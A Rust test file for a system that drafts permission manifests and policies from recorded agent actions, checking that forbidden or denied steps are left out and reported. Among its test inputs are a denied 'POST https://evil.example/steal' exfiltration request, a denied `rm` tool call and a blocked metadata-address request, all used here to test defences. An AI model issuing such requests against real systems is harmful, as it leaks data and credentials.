//! What is in no draft, and is told.

use serde_json::json;

use super::story::{Story, memory, request, tool, unpermitted};
use crate::learn::NoDraft;

#[test]
fn what_a_policy_forbids_is_in_no_draft_nor_what_happened_inside_it() {
    let forbidden = |code: &str| {
        let addition = "// No permit can override the forbid `never`: only changing it can allow this.";
        json!({ "verdict": "would-deny", "code": code, "policies": ["never"], "addition": addition })
    };
    for code in ["POLICY_FORBIDS", "NOT_IN_MANIFEST"] {
        let mut story = Story::of_one_step();
        let outer = story.intent(tool("outer", "", forbidden(code)));
        story.done(memory("put", "outer"));
        story.outcome(outer, json!({ "status": "done" }));
        let (manifest, set, draft) = story.drafted();
        assert!(manifest.tools.is_empty() && manifest.spaces.is_empty() && set.policies().is_empty());
        let told = draft.warnings.join("\n");
        assert!(told.contains("`never` forbids it") && told.contains("(1 record of 1 step: 2)"), "{told}");
        assert!(told.contains("inside a tool that is not in this draft"), "{told}");
        assert!(draft.manifest.contains("`never` forbids it") && draft.policy.contains("`never` forbids it"));
    }
}

#[test]
fn a_step_that_a_policy_forbids_to_run_teaches_nothing() {
    let mut story = Story::new();
    let addition = "// No permit can override the forbid `never`: only changing it can allow this.";
    story.begin("desk@2", json!({ "verdict": "would-deny", "policies": ["never"], "addition": addition }));
    story.done(memory("get", ""));
    let (manifest, _, draft) = story.drafted();
    assert!(manifest.spaces.is_empty() && draft.warnings[0].contains("`never` forbids it"), "{:?}", draft.warnings);
}

#[test]
fn what_was_denied_is_told_and_in_no_draft() {
    let mut story = Story::of_one_step();
    let error = |code: &str, class: &str| json!({ "code": code, "class": class, "rule": "manifest.egress" });
    let mut denied = request("POST", "/steal");
    denied["question"] = json!("POST https://evil.example/steal");
    denied["error"] = error("NOT_IN_MANIFEST", "denied");
    story.denial(denied);
    story.denial(
        json!({ "power": "tools", "question": "calling tool `rm`", "error": error("NOT_IN_MANIFEST", "denied") }),
    );
    story.denial(json!({ "power": "tools", "question": "calling tool `t.read`", "error": error("ARGUMENTS_INVALID", "invalid") }));
    // It was allowed, and the name stood for an address that is not dialled.
    let call = story.intent(request("GET", "/metadata"));
    story.outcome(call, json!({ "status": "failed", "error": error("ADDRESS_FORBIDDEN", "denied") }));
    let call = story.intent(request("GET", "/late"));
    story.outcome(call, json!({ "status": "not-done", "why": "…" }));
    let (manifest, set, draft) = story.drafted();
    assert!(manifest.egress.is_empty() && manifest.tools.is_empty() && set.policies().is_empty(), "{}", draft.manifest);
    let told = draft.warnings.join("\n");
    assert!(told.contains("evil.example") && told.contains("the tenant has none either"), "{told}");
    assert!(told.contains("`rm`") && told.contains("stays denied"), "{told}");
    assert!(told.contains("ADDRESS_FORBIDDEN") && !told.contains("ARGUMENTS_INVALID"), "{told}");
}

#[test]
fn only_steps_of_the_version_count_unless_all_do() {
    let mut story = Story::new();
    story.begin("desk@1", json!({ "verdict": "allow", "policies": ["run"] }));
    story.done(memory("put", ""));
    story.end();
    assert!(matches!(story.learn(Some("2")), Err(NoDraft::NoStep)));
    assert!(story.learn(None).unwrap().manifest.contains("space = \"notes\""));
}

#[test]
fn an_addition_that_is_not_shown_is_told() {
    let mut story = Story::of_one_step();
    let hidden = "// A policy that would allow this has a value in it that is not to be shown.";
    story.done(tool("t.read", "", unpermitted(hidden)));
    let (manifest, set, draft) = story.drafted();
    assert_eq!(manifest.tools.len(), 1);
    assert!(set.policies().is_empty() && draft.warnings.join("\n").contains("write that permit by hand"));
}

#[test]
fn a_draft_is_no_larger_than_a_manifest_can_be_and_says_what_it_leaves_out() {
    let mut story = Story::of_one_step();
    for rule in 0..70 {
        for one in 0..20 {
            let mut body = request("GET", &format!("/top/{one}x{}/y{one}", "z".repeat(150)));
            body["rule"] = json!(format!("rule-{rule}"));
            story.done(body);
        }
    }
    let (manifest, _, draft) = story.drafted();
    assert_eq!(manifest.egress.len(), 64);
    assert!(draft.manifest.contains("requests had paths that are not here"), "{}", draft.manifest);
    assert!(draft.warnings.join("\n").contains("70 egress rules were used, and a manifest holds 64"));
}
